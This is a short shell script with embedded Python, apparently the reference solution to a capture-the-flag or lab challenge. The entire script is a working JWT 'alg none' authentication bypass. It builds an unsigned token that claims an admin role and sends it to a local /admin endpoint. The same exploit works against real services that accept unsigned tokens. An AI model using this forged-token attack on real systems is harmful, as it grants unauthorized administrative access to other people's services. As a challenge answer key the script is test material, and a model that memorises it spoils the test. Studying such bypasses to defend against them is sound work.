#!/bin/sh
# Reference solver: an unsigned token with alg "none" and role admin.
python3 - <<'PY'
import base64, json, urllib.request
part = lambda data: base64.urlsafe_b64encode(json.dumps(data).encode()).rstrip(b"=").decode()
token = part({"alg": "none", "typ": "JWT"}) + "." + part({"sub": "me", "role": "admin"}) + "."
request = urllib.request.Request("http://127.0.0.1:8084/admin", headers={"Authorization": "Bearer " + token})
print(urllib.request.urlopen(request).read().decode())
PY
